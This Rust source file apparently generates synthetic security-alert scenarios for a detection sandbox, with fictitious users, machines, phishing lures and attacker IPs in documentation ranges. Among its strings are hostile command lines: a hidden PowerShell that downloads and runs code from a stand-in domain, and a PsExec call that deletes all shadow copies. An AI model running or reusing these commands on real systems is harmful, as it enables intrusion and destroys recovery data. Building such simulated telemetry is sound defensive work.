//! Who and what a story is about: an organisation shared by all stories, and
//! the people, machines and artefacts of one story, the same in every alert.

use rand::rngs::StdRng;
use rand::{Rng, RngExt};
use std::sync::Arc;

use crate::sandbox::story::evidence::{Device, File, Message, Process, User};
use crate::sandbox::tenant::instant::Ticks;

const FIRST: &[&str] = &[
    "Amelie",
    "Björn",
    "Chiara",
    "Dmitri",
    "Esra",
    "François",
    "Grace",
    "Håkon",
    "Inés",
    "Jürgen",
    "Katarzyna",
    "Łukasz",
    "María",
    "Noor",
    "Óscar",
    "Priya",
    "Quentin",
    "Renée",
    "Søren",
    "Thị Lan",
    "Ursula",
    "Václav",
    "Wen",
    "Zoë",
    "太郎",
    "Ольга",
    "محمد",
];
const LAST: &[&str] = &[
    "Ångström",
    "Bianchi",
    "Çelik",
    "Dubois",
    "Eriksen",
    "Fernández",
    "García",
    "Hughes",
    "Ivanova",
    "Jansen",
    "Kovač",
    "Lefèvre",
    "Müller",
    "Nguyễn",
    "O'Brien",
    "Peña",
    "Rossi",
    "Schröder",
    "Šimić",
    "Tanaka",
    "Weiß",
    "山田",
];
const USERS: usize = 240;
const STATIONS: usize = 160;
const SERVERS: usize = 24;

/// The people and machines of the tenant.
#[derive(Debug)]
pub(super) struct Organisation {
    users: Vec<Arc<User>>,
    stations: Vec<Arc<Device>>,
    servers: Vec<Arc<Device>>,
}

/// The people, machines and artefacts of one story.
#[derive(Debug)]
pub(super) struct Cast {
    pub(super) victim: Arc<User>,
    pub(super) admin: Arc<User>,
    pub(super) station: Arc<Device>,
    pub(super) server: Arc<Device>,
    pub(super) attacker: Arc<str>,
    pub(super) relay: Arc<str>,
    pub(super) country: &'static str,
    pub(super) domain: String,
    pub(super) url: Arc<str>,
    pub(super) message: Arc<Message>,
    pub(super) mails: i64,
    pub(super) lure: Arc<File>,
    pub(super) payload: Arc<File>,
    pub(super) tool: Arc<File>,
    pub(super) script: Arc<Process>,
    pub(super) beacon: Arc<Process>,
    pub(super) hands: Arc<Process>,
    pub(super) agent: Arc<str>,
    pub(super) app: Arc<str>,
    pub(super) app_id: Arc<str>,
    pub(super) group_sid: Arc<str>,
}

impl Organisation {
    pub(super) fn new(rng: &mut StdRng, born: Ticks) -> Option<Self> {
        let users: Vec<_> = (0..USERS)
            .map(|number| {
                let (first, last) = (pick(rng, FIRST), pick(rng, LAST));
                Arc::new(User {
                    account: format!("user{number:03}"),
                    display: format!("{first} {last}"),
                    sid: format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1100 + number),
                    entra_id: guid(rng),
                })
            })
            .collect();
        let mut machines = |count: usize, prefix: &str, server: bool| -> Option<Vec<_>> {
            (0..count)
                .map(|number| {
                    let owner = users.get(number.checked_rem(users.len())?)?.clone();
                    let subnet = if server { 20 } else { 10 + number / 100 };
                    Some(Arc::new(Device {
                        mde_id: hex(rng, 20),
                        entra_id: guid(rng),
                        host: format!("{prefix}{number:03}"),
                        os: if server {
                            "WindowsServer2022"
                        } else {
                            "Windows11"
                        },
                        build: if server { 20348 } else { 26100 },
                        version: if server { "21H2" } else { "24H2" },
                        ip: format!("10.{subnet}.0.{}", 10 + number % 100),
                        group: if server {
                            "Tier 0 – Server"
                        } else {
                            "Arbeitsplätze EMEA"
                        },
                        group_id: if server { 12 } else { 75 },
                        first_seen: Ticks(born.0 - rng.random_range(1..4000) * 86_400_000_000),
                        tags: if server {
                            &["tier0", "Finance & Ops <prod>"]
                        } else {
                            &["managed"]
                        },
                        owner,
                    }))
                })
                .collect()
        };
        let stations = machines(STATIONS, "wks-", false)?;
        let servers = machines(SERVERS, "srv-", true)?;
        Some(Self {
            users,
            stations,
            servers,
        })
    }

    /// Draws the cast of a story that begins at that time.
    pub(super) fn cast(&self, rng: &mut StdRng, start: Ticks) -> Option<Cast> {
        let station = one(rng, &self.stations)?.clone();
        let server = one(rng, &self.servers)?.clone();
        let victim = station.owner.clone();
        let admin = one(rng, &self.users)?.clone();
        let attacker: Arc<str> = format!("203.0.113.{}", rng.random_range(1..255)).into();
        let relay: Arc<str> = format!("198.51.100.{}", rng.random_range(1..255)).into();
        let site = pick(
            rng,
            &["login", "portal", "invoice", "share", "sso", "münchen"],
        );
        let tld = pick(rng, &["example.com", "example.net", "example.org"]);
        let domain = format!("{site}-{}.{tld}", hex(rng, 2));
        let url: Arc<str> = format!(
            "https://{domain}/r?u={}&t=%7B{}%7D#<a>",
            victim.account,
            hex(rng, 6)
        )
        .into();
        let message = Arc::new(Message {
            network_id: guid(rng),
            subject: pick(
                rng,
                &[
                    "Action required: \"MFA\" expires today ⚠",
                    "Rechnung 4711 – überfällig",
                    "RE: [EXT] Q4 \\ bonus <confidential>",
                    "請求書のお知らせ",
                    "Shared with you: payroll & benefits.xlsx",
                ],
            )
            .to_owned(),
            sender: format!("no-reply@{domain}"),
            sender_ip: relay.to_string(),
            url: url.to_string(),
            received: start,
            to: victim.clone(),
        });
        let name = pick(
            rng,
            &[
                "Invoice_4711.iso",
                "Übersicht 2026.lnk",
                "setup.msi",
                "resume.docm",
            ],
        );
        let lure = file(
            rng,
            name,
            &format!("C:\\Users\\{}\\Downloads", victim.account),
            None,
        );
        let name = pick(
            rng,
            &["svch0st.exe", "update.dll", "mspaint_.exe", "rclone.exe"],
        );
        let payload = file(
            rng,
            name,
            &format!("C:\\Users\\{}\\AppData\\Local\\Temp", victim.account),
            None,
        );
        let name = pick(
            rng,
            &["PsExec64.exe", "procdump.exe", "adfind.exe", "7za.exe"],
        );
        let tool = file(rng, name, "C:\\ProgramData\\a", Some("Example Tools Ltd."));
        let shell = file(
            rng,
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            Some("Microsoft Corporation"),
        );
        let explorer = file(
            rng,
            "explorer.exe",
            "C:\\Windows",
            Some("Microsoft Corporation"),
        );
        let (encoded, key) = (hex(rng, 90), hex(rng, 8));
        let script = process(
            rng,
            &shell,
            &explorer,
            format!(
                "\"powershell.exe\" -NoP -W Hidden -Enc {encoded} ; iex (iwr \"https://{domain}/a\") -replace '\u{7}',''"
            ),
            start,
            &victim,
        );
        let beacon = process(
            rng,
            &payload,
            &shell,
            format!(
                "rundll32.exe \"{}\\{}\",#1 /k <{key}> & exit",
                payload.path, payload.name
            ),
            start,
            &victim,
        );
        let hands = process(
            rng,
            &tool,
            &payload,
            format!(
                "{} \\\\{} -accepteula -s -d cmd.exe /c \"vssadmin delete shadows /all /quiet\t&& whoami\"",
                tool.name,
                server.dns_name()
            ),
            start,
            &admin,
        );
        Some(Cast {
            country: pick(rng, &["NL", "SE", "BR", "SG", "ZA"]),
            mails: rng.random_range(2..90),
            agent:
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) axios/1.7"
                    .into(),
            app: pick(
                rng,
                &["Mail Backup Pro", "Perfect Data «Sync»", "Kalender-Helfer"],
            )
            .into(),
            app_id: guid(rng).into(),
            group_sid: format!(
                "S-1-5-21-1004336348-1177238915-682003330-{}",
                rng.random_range(500..600)
            )
            .into(),
            victim,
            admin,
            station,
            server,
            attacker,
            relay,
            domain,
            url,
            message,
            lure,
            payload,
            tool,
            script,
            beacon,
            hands,
        })
    }
}

fn process(
    rng: &mut StdRng,
    image: &Arc<File>,
    parent: &Arc<File>,
    command: String,
    start: Ticks,
    user: &Arc<User>,
) -> Arc<Process> {
    let started = Ticks(start.0 - rng.random_range(300_000_000..1_200_000_000));
    Arc::new(Process {
        image: image.clone(),
        parent: parent.clone(),
        command,
        id: rng.random_range(1000..30000),
        parent_id: rng.random_range(600..30000),
        started,
        parent_started: Ticks(started.0 - rng.random_range(1..9_000_000_000)),
        user: user.clone(),
    })
}

fn file(rng: &mut StdRng, name: &str, path: &str, publisher: Option<&'static str>) -> Arc<File> {
    Arc::new(File {
        name: name.to_owned(),
        path: path.to_owned(),
        sha1: hex(rng, 20),
        sha256: hex(rng, 32),
        md5: hex(rng, 16),
        size: rng.random_range(4_000..9_000_000),
        publisher,
    })
}

pub(super) fn one<'a, T>(rng: &mut StdRng, all: &'a [T]) -> Option<&'a T> {
    let at = rng.random_range(0..all.len().max(1));
    all.get(at)
}

pub(super) fn pick(rng: &mut StdRng, all: &[&'static str]) -> &'static str {
    one(rng, all).copied().unwrap_or_default()
}

/// Hex digits of that many random bytes.
pub(super) fn hex(rng: &mut StdRng, bytes: usize) -> String {
    let mut random = vec![0; bytes];
    rng.fill_bytes(&mut random);
    let digit = |nibble: u8| char::from_digit(u32::from(nibble), 16).unwrap_or('0');
    random
        .iter()
        .flat_map(|byte| [digit(byte >> 4), digit(byte & 15)])
        .collect()
}

/// A random GUID (version 4), from the seed.
pub(super) fn guid(rng: &mut StdRng) -> String {
    let mut bytes = [0; 16];
    rng.fill_bytes(&mut bytes);
    uuid::Builder::from_random_bytes(bytes)
        .into_uuid()
        .to_string()
}
